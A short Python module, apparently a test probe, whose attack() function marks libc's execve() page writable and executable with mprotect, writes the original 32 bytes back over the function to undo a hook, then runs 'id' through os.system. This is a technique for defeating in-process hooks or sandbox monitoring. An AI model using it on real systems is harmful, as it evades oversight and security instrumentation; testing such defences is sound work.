"""The page of libc's execve() is made writable, and the function put back as it was."""

import ctypes
import os

from libc_file import address_of, errno_or, original, page_of


def attack(event):
    libc = ctypes.CDLL(None, use_errno=True)
    at = address_of("execve")
    said = errno_or(libc.mprotect(ctypes.c_void_p(page_of(at)), 8192, 7))
    if said == "done":
        ctypes.memmove(at, original("execve"), 32)
        os.system("id >%s" % event["out"])
    return said
